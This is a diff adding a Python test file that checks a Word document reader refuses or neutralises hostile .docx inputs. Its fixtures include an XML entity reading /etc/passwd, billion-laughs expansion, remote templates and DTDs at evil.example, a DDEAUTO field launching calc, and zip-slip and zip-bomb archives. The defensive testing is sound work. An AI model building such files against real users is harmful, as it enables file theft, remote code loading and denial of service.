@@ -1,0 +1,295 @@
+"""Word files that mean harm: each kind is refused with a reason, or read as if the harmful part were not there."""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import subprocess
+import sys
+import warnings
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from toolkit.documents import read_docx
+from toolkit.documents.read import read_word
+from toolkit.errors import UnreadableFile
+
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
+WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
+MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+TEXT = "<w:p><w:r><w:t>Article 1</w:t></w:r></w:p>"
+
+
+def archive(members: dict[str, str | bytes] | list[tuple[str, str | bytes]]) -> bytes:
+    file = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # that a name is there twice
+        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
+            for name, data in members.items() if isinstance(members, dict) else members:
+                made.writestr(name, data)
+    return file.getvalue()
+
+
+def document(body: str = TEXT, head: str = HEAD) -> str:
+    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"
+
+
+def word(body: str = TEXT, head: str = HEAD, **more: str | bytes) -> bytes:
+    return archive({"word/document.xml": document(body, head), **{k.replace("__", "/"): v for k, v in more.items()}})
+
+
+def relation(kind: str, target: str, mode: str = "External") -> str:
+    return RELATIONS.format(f'<Relationship Id="r1" Type="{WORD}/{kind}" Target="{target}" TargetMode="{mode}"/>')
+
+
+def with_relation(kind: str, target: str, mode: str = "External", part: str = "document.xml") -> bytes:
+    return archive({"word/document.xml": document(), f"word/_rels/{part}.rels": relation(kind, target, mode)})
+
+
+def with_type(kind: str) -> bytes:
+    types = TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{kind}"/>')
+    return archive({"[Content_Types].xml": types, "word/document.xml": document()})
+
+
+def many_entries() -> bytes:
+    return archive([(f"word/media/{n}.png", b"") for n in range(5100)] + [("word/document.xml", document())])
+
+
+def password() -> bytes:
+    data = bytearray(word())
+    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = data.index(signature) + place
+        data[at : at + 2] = struct.pack("<H", 1)
+    return bytes(data)
+
+
+def field(*pieces: str) -> bytes:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return word(f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>")
+
+
+ENTITY = f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'>" + "".join(
+    f"<!ENTITY {b} '{('&' + a + ';') * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
+)
+UTF16_ENTITY = document("<w:p/>", ENTITY.replace("UTF-8", "UTF-16")).encode("utf-16")
+
+REFUSED = {
+    "an empty file": (lambda: b"", "is not a Word file, or it is damaged"),
+    "no archive": (lambda: b"Article 1", "is not a Word file, or it is damaged"),
+    "a file cut in half": (lambda: word()[:150], "is not a Word file, or it is damaged"),
+    "an old Word file or one with a password": (
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+        "is an old Word file",
+    ),
+    "an archive with a password": (password, "has a password"),
+    "a spreadsheet": (
+        lambda: with_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+        "holds no Word text",
+    ),
+    "a bomb in one part": (lambda: word(" " * (60 * 2**20)), "is too large"),
+    "a bomb of many parts": (
+        lambda: archive([(f"word/{n}.xml", b"\0" * 2**20) for n in range(60)] + [("word/document.xml", document())]),
+        "is too large",
+    ),
+    "a bomb just below the limit of the whole": (lambda: word(" " * (30 * 2**20)), "is too large"),
+    "thousands of parts": (many_entries, "is too large"),
+    "millions of elements": (lambda: word("<w:p/>" * 2_000_000), "is too large"),
+    "millions of attributes": (
+        lambda: word("<w:p " + " ".join(f'a{n}=""' for n in range(1_200_000)) + "/>"),
+        "is",
+    ),
+    "millions of cells": (lambda: word("<w:tbl><w:tr>" + "<w:tc/>" * 2_000_000 + "</w:tr></w:tbl>"), "is too large"),
+    "elements nested thousands deep": (lambda: word("<w:sdt>" * 9000), "is not a Word file, or it is damaged"),
+    "a huge attribute": (lambda: word(f'<w:p w:x="{"a" * (11 * 2**20)}"/>'), "is not a Word file, or it is damaged"),
+    "an entity from a file": (lambda: word("<w:p/>", ENTITY), "holds instructions that no Word file needs"),
+    "a billion laughs": (lambda: word("<w:p/>", f"{LAUGHS}]>"), "holds instructions that no Word file needs"),
+    "an entity in another encoding": (
+        lambda: archive({"word/document.xml": UTF16_ENTITY}),
+        "holds instructions that no Word file needs",
+    ),
+    "a document type in the styles": (
+        lambda: archive(
+            {
+                "word/document.xml": document(),
+                "word/_rels/document.xml.rels": relation("styles", "styles.xml", "Internal"),
+                "word/styles.xml": f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:styles {W}/>',
+            }
+        ),
+        "holds instructions that no Word file needs",
+    ),
+    "an encoding that hides": (
+        lambda: word(head='<?xml version="1.0" encoding="UTF-7"?>'),
+        "holds an encoding that no Word file uses",
+    ),
+    "letters that are none": (
+        lambda: archive({"word/document.xml": document("<w:p>\udc80</w:p>").encode("utf-8", "surrogatepass")}),
+        "is not a Word file, or it is damaged",
+    ),
+    "a template from the network": (
+        lambda: with_relation("attachedTemplate", "http://evil.example/t.dotm", part="settings.xml"),
+        "would fetch something from elsewhere",
+    ),
+    "a picture from the network": (
+        lambda: with_relation("image", "http://evil.example/pixel.png"),
+        "would fetch something from elsewhere",
+    ),
+    "an object linked to a file": (
+        lambda: with_relation("oleObject", "file:///C:/secret.xls"),
+        "would fetch something from elsewhere",
+    ),
+    "a frame": (lambda: with_relation("frame", "//evil.example/x.htm"), "would fetch something from elsewhere"),
+    "macros": (lambda: word(**{"word__vbaProject.bin": b"x"}), "holds macros"),
+    "macros under another name": (
+        lambda: with_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
+        "holds macros",
+    ),
+    "a control that acts": (lambda: with_relation("control", "activeX/activeX1.xml", "Internal"), "holds macros"),
+    "text of another file by a chunk": (
+        lambda: with_relation("aFChunk", "chunk.htm", "Internal"),
+        "shows text that lies in another file",
+    ),
+    "text of another file in the body": (
+        lambda: word('<w:altChunk w:id="r9"/>'),
+        "shows text that lies in another file",
+    ),
+    "a subdocument": (lambda: word('<w:subDoc w:id="r9"/>'), "shows text that lies in another file"),
+    "a field that starts a programme": (lambda: field("DDEAUTO c:\\\\windows calc"), "holds a field that fetches"),
+    "such a field cut in pieces": (lambda: field(" D", "DEAU", "TO c:\\\\windows calc"), "holds a field that fetches"),
+    "a field that reads a file": (
+        lambda: word('<w:p><w:fldSimple w:instr="INCLUDETEXT secret.txt"/></w:p>'),
+        "holds a field that fetches",
+    ),
+    "a part that wants out of its folder": (
+        lambda: word(**{"..__..__evil.sh": b"x"}),
+        "holds a part that wants to be written outside its folder",
+    ),
+    "a part with an absolute name": (
+        lambda: archive({"word/document.xml": document(), "/etc/passwd": b"x"}),
+        "holds a part that wants to be written outside its folder",
+    ),
+    "the text twice": (
+        lambda: archive([("word/document.xml", document()), ("word/document.xml", document("<w:p/>"))]),
+        "holds the same part twice",
+    ),
+    "the text twice in other capitals": (
+        lambda: archive([("word/document.xml", document()), ("Word/Document.xml", document("<w:p/>"))]),
+        "holds the same part twice",
+    ),
+}
+
+NEUTRALISED = {
+    "a link that a person may follow": lambda: with_relation("hyperlink", "http://evil.example/"),
+    "the writer's own template": lambda: with_relation(
+        "attachedTemplate", "file:///C:/Users/a/Normal.dotm", part="settings.xml"
+    ),
+    "an embedded object": lambda: word(**{"word__embeddings__oleObject1.bin": b"MZ" * 100}),
+    "comments": lambda: word(**{"word__comments.xml": "<!DOCTYPE x><x/>"}),
+    "custom XML": lambda: word(**{"customXml__item1.xml": f"{LAUGHS}]><x>&i;</x>"}),
+    "an archive in the archive": lambda: word(**{"word__media__a.zip": archive({"b": b"\0" * 2**20})}),
+    "attributes that are no numbers": lambda: word(
+        '<w:p><w:pPr><w:outlineLvl w:val="99999999999999999999"/><w:numPr><w:ilvl w:val="-1"/></w:numPr></w:pPr>'
+        "<w:r><w:t>Article 1</w:t></w:r></w:p>"
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", REFUSED)
+def test_a_file_that_means_harm_is_refused_with_a_reason_and_a_next_step(kind: str) -> None:
+    make, sentence = REFUSED[kind]
+    with pytest.raises(UnreadableFile) as error:
+        read_docx(make(), name="answer.docx")
+    assert str(error.value).startswith("The file “answer.docx” ")
+    assert sentence in str(error.value)
+    assert error.value.sentence.endswith(".")
+
+
+@pytest.mark.parametrize("kind", NEUTRALISED)
+def test_what_is_not_needed_is_not_looked_at(kind: str) -> None:
+    assert [block.text for block in read_docx(NEUTRALISED[kind]())] == ["Article 1"]
+
+
+def test_at_least_twenty_kinds_are_refused() -> None:
+    assert len(REFUSED) >= 20
+
+
+def test_a_field_that_only_numbers_pages_is_no_danger() -> None:
+    assert read_docx(field(" PAGE ")) == ()
+    assert read_docx(field(" REF _Ref1 \\r \\h ")) == ()
+
+
+def test_footnotes_are_read_where_they_are_called() -> None:
+    said = "<w:p><w:r><w:t>unless urgent</w:t></w:r></w:p>"
+    note = f'<w:footnotes {W}><w:footnote w:id="2">{said}</w:footnote></w:footnotes>'
+    body = '<w:p><w:r><w:t>No use</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
+    data = archive(
+        {
+            "word/document.xml": document(body),
+            "word/_rels/document.xml.rels": relation("footnotes", "footnotes.xml", "Internal"),
+            "word/footnotes.xml": note,
+        }
+    )
+    assert [block.text for block in read_docx(data)] == ["No use [unless urgent]"]
+
+
+def test_tracked_changes_are_read_both_ways_with_author_and_date() -> None:
+    change = 'w:author="Employer" w:date="2026-12-01T10:00:00Z"'
+    body = (
+        f'<w:p><w:r><w:t xml:space="preserve">within </w:t></w:r><w:del w:id="1" {change}>'
+        f'<w:r><w:delText>30</w:delText></w:r></w:del><w:ins w:id="2" {change}><w:r><w:t>90</w:t></w:r></w:ins></w:p>'
+        f'<w:p><w:pPr><w:rPr><w:ins w:id="3" {change}/></w:rPr></w:pPr><w:ins w:id="4" {change}>'
+        "<w:r><w:t>New.</w:t></w:r></w:ins></w:p><w:p><w:r><w:t>Last.</w:t></w:r></w:p>"
+    )
+    read = read_word(word(body))
+    assert [block.text for block in read.blocks] == ["within 90", "New.", "Last."]
+    assert [block.text for block in read.before] == ["within 30", "Last."]
+    assert read.authors == ("Employer",)
+    assert [(one.kind, one.text) for one in read.revisions if one.text] == [
+        ("deleted", "30"),
+        ("inserted", "90"),
+        ("inserted", "New."),
+    ]
+    assert read.revisions[0].date is not None
+    assert read.revisions[0].date.isoformat() == "2026-12-01T10:00:00+00:00"
+
+
+MEASURE = """
+import importlib.util, json, psutil, sys, threading, time
+spec = importlib.util.spec_from_file_location("hostile", sys.argv[1])
+module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)
+from toolkit.documents import read_docx
+read_docx(module.word())
+process, peak, stop = psutil.Process(), [0], threading.Event()
+def watch():
+    while not stop.is_set():
+        peak[0] = max(peak[0], process.memory_info().rss)
+        time.sleep(0.005)
+found = {}
+for kind, (make, _) in module.REFUSED.items():
+    data = make()
+    before = process.memory_info().rss
+    peak[0] = before; stop.clear()
+    watcher = threading.Thread(target=watch); watcher.start()
+    try:
+        read_docx(data)
+    except module.UnreadableFile:
+        pass
+    stop.set(); watcher.join()
+    found[kind] = (peak[0] - before) / 2**20
+print(json.dumps(found))
+"""
+
+
+def test_memory_stays_bounded_whatever_is_brought() -> None:
+    done = subprocess.run(
+        [sys.executable, "-c", MEASURE, str(Path(__file__))], capture_output=True, text=True, timeout=250, check=True
+    )
+    grown = json.loads(done.stdout)
+    assert max(grown.values()) < 400, {kind: round(megabytes) for kind, megabytes in grown.items() if megabytes > 100}
